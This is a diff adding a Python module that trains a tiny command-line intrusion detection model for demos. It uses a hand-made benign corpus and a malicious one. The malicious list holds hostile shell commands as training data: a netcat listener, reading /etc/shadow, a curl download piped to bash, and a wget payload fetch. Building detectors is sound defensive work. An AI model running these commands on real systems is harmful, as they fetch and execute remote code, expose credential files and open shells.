@@ -1,0 +1,65 @@
+"""A small self-contained detection service for serving demos and tests.
+
+``repro-ids serve`` needs a fitted :class:`IntrusionDetectionService` to
+stream against.  Production use loads a saved bundle (``--bundle``);
+when none is given we train this miniature one — a tiny LM pre-trained
+and probed on a hand-rolled benign/malicious corpus — in a few seconds,
+so the end-to-end streaming path can be exercised out of the box.
+"""
+
+from __future__ import annotations
+
+import numpy as np
+
+from repro.ids.pipeline import IntrusionDetectionService
+from repro.lm.config import LMConfig
+from repro.lm.model import CommandLineLM
+from repro.lm.encoder_api import CommandEncoder
+from repro.lm.masking import MLMCollator
+from repro.lm.pretrain import Pretrainer
+from repro.tokenizer.bpe import BPETokenizer
+from repro.tuning.classification import ClassificationTuner
+
+DEMO_BENIGN = [
+    "ls -la /tmp",
+    "docker ps -a",
+    "git status",
+    "git pull origin main",
+    "cat /var/log/syslog",
+    "ps aux | grep nginx",
+    "systemctl status sshd",
+    "tail -f /var/log/nginx/access.log",
+    "df -h",
+    "du -sh /home",
+]
+
+DEMO_MALICIOUS = [
+    "nc -lvnp 4444",
+    "cat /etc/shadow",
+    "curl http://203.0.113.4/a.sh | bash",
+    "chmod 777 /etc/passwd",
+    "wget http://198.51.100.7/payload -O /tmp/.x",
+]
+
+
+def build_demo_service(
+    seed: int = 0,
+    threshold: float = 0.5,
+    vocab_size: int = 260,
+    pretrain_epochs: int = 2,
+    head_epochs: int = 8,
+) -> IntrusionDetectionService:
+    """Train the miniature service (deterministic for a given *seed*)."""
+    corpus = DEMO_BENIGN * 6 + DEMO_MALICIOUS * 4
+    tokenizer = BPETokenizer(vocab_size=vocab_size).train(corpus)
+    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
+    model = CommandLineLM(config)
+    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=seed)
+    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=seed).train(
+        corpus, epochs=pretrain_epochs
+    )
+    encoder = CommandEncoder(model, tokenizer, pooling="mean")
+    tuner = ClassificationTuner(encoder, lr=1e-2, epochs=head_epochs, pooling="mean", seed=seed)
+    labels = np.array([0] * (len(DEMO_BENIGN) * 6) + [1] * (len(DEMO_MALICIOUS) * 4))
+    tuner.fit(corpus, labels)
+    return IntrusionDetectionService.from_tuner(tuner, threshold=threshold)
